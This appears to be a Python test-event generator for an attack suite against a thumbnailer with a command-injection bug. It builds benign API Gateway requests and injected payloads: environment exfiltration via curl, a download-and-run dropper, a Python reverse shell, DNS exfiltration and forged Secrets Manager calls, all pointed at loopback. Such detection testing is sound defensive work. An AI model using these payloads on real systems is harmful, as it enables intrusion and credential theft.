#!/usr/bin/env python3
"""Events for the attack suite on the thumbnailer (samples/incident: a command-injection bug in
`name`). Two commands:

  events.py corpus DIR COUNT [SEED]   COUNT benign API Gateway requests, DIR/benign-NNN.json,
                                      generated with a fixed seed (default 9): varied image names,
                                      sizes, request ids, source addresses, user agents.
  events.py attack NAME ARG...        one attack request on stdout (the scenarios of README.md):
      environ-exfil PORT              curl posts /proc/self/environ to 127.0.0.1:PORT
      dropper PORT FILE               curl fetches http://127.0.0.1:PORT/upd into FILE, chmod, run
      reverse-shell PORT              python connects sh -i to 127.0.0.1:PORT (dup2 on the socket)
      listen PORT                     python listens on 127.0.0.1:PORT for a moment
      dns-exfil ADDR                  python sends app.py, hex-encoded in long labels, as DNS queries to ADDR:53/udp
      aws-calls PORT COUNT            python makes COUNT signed-looking Secrets Manager calls to
                                      127.0.0.1:PORT (Host: secretsmanager.us-east-1.amazonaws.com)
      code-tamper                     a benign request, run after the task root was changed

Everything points at loopback addresses only."""
import json
import random
import sys
import uuid

IMAGES = ["cat.png", "dog.png"]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) Safari/604.1",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/126.0", "okhttp/4.12.0",
          "python-requests/2.32.3"]


def request(name, rng, extra=None):
    ip = "198.51.100.%d" % rng.randrange(1, 255)
    agent = rng.choice(AGENTS)
    qs = {"name": name, "width": str(rng.choice([64, 128, 256, 512]))}
    if extra:
        qs.update(extra)
    rid = str(uuid.UUID(int=rng.getrandbits(128), version=4))
    return {"resource": "/thumbnail", "path": "/thumbnail", "httpMethod": "GET",
            "headers": {"Host": "abc123.execute-api.us-east-1.amazonaws.com",
                        "User-Agent": agent, "X-Forwarded-For": ip},
            "queryStringParameters": qs,
            "requestContext": {"accountId": "123456789012", "apiId": "abc123", "stage": "prod",
                               "requestId": rid, "httpMethod": "GET", "path": "/prod/thumbnail",
                               "identity": {"sourceIp": ip, "userAgent": agent}},
            "body": None, "isBase64Encoded": False}


def benign_name(rng):
    # Most requests ask for the two images the function has, some for uploads it does not
    # (digits vary: user ids and dates), the way a real thumbnailer is asked.
    r = rng.random()
    if r < 0.7:
        return rng.choice(IMAGES)
    return "upload-%d-%04d%02d%02d.png" % (rng.randrange(1, 99999), rng.randrange(2020, 2026),
                                           rng.randrange(1, 13), rng.randrange(1, 29))


PY = "python3 -c \"%s\""

ATTACKS = {
    "environ-exfil": lambda port: "cat.png; curl -s -m 3 --data-binary @/proc/self/environ "
                                  "http://127.0.0.1:%s/c >/dev/null" % port,
    "dropper": lambda port, path: "cat.png; curl -s -m 3 -o %s http://127.0.0.1:%s/upd && "
                                  "chmod 755 %s && %s" % (path, port, path, path),
    "reverse-shell": lambda port: "cat.png; " + PY % (
        "import socket,os,subprocess;s=socket.create_connection(('127.0.0.1',%s),3);"
        "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
        "subprocess.run(['/bin/sh','-i'],timeout=5)" % port),
    "listen": lambda port: "cat.png; " + PY % (
        "import socket,time;s=socket.socket();"
        "s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(('127.0.0.1',%s));"
        "s.listen(1);time.sleep(0.3);s.close()" % port),
    "dns-exfil": lambda addr: "cat.png; " + PY % (
        "import socket,struct,binascii;d=binascii.hexlify(open('app.py','rb').read()).decode();"
        "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(0.5);"
        "[s.sendto(struct.pack('>HHHHHH',i+1,256,1,0,0,0)+b''.join(bytes([len(l)])+l.encode() "
        "for l in [d[i*60:i*60+60],'%%d'%%i,'x','exfil-demo','example'])+b'\\\\0\\\\0\\\\1\\\\0\\\\1',"
        "('%s',53)) for i in range(min(8,(len(d)+59)//60))]" % addr),
    "aws-calls": lambda port, count: "cat.png; " + PY % (
        "import urllib.request as u,hashlib\n"
        "for i in range(%s):\n"
        " sig=hashlib.sha256(b'%%d'%%i).hexdigest()\n"
        " r=u.Request('http://127.0.0.1:%s/',data=b'{}',headers={"
        "'Host':'secretsmanager.us-east-1.amazonaws.com',"
        "'X-Amz-Target':'secretsmanager.ListSecrets','Content-Type':'application/x-amz-json-1.1',"
        "'X-Amz-Date':'20261205T031500Z','Authorization':'AWS4-HMAC-SHA256 Credential="
        "AKIAEXAMPLE/20261205/us-east-1/secretsmanager/aws4_request, "
        "SignedHeaders=host;x-amz-date;x-amz-target, Signature='+sig})\n"
        " u.urlopen(r,timeout=3).read()" % (count, port)),
    "code-tamper": lambda: "cat.png",
}


def main(argv):
    if len(argv) >= 3 and argv[1] == "corpus":
        count = int(argv[3])
        rng = random.Random(int(argv[4]) if len(argv) > 4 else 9)
        for i in range(count):
            with open("%s/benign-%03d.json" % (argv[2], i), "w", encoding="utf-8") as f:
                json.dump(request(benign_name(rng), rng), f, indent=2)
        return 0
    if len(argv) >= 3 and argv[1] == "attack" and argv[2] in ATTACKS:
        rng = random.Random(argv[2])
        json.dump(request(ATTACKS[argv[2]](*argv[3:]), rng), sys.stdout, indent=2)
        sys.stdout.write("\n")
        return 0
    sys.stderr.write(__doc__)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
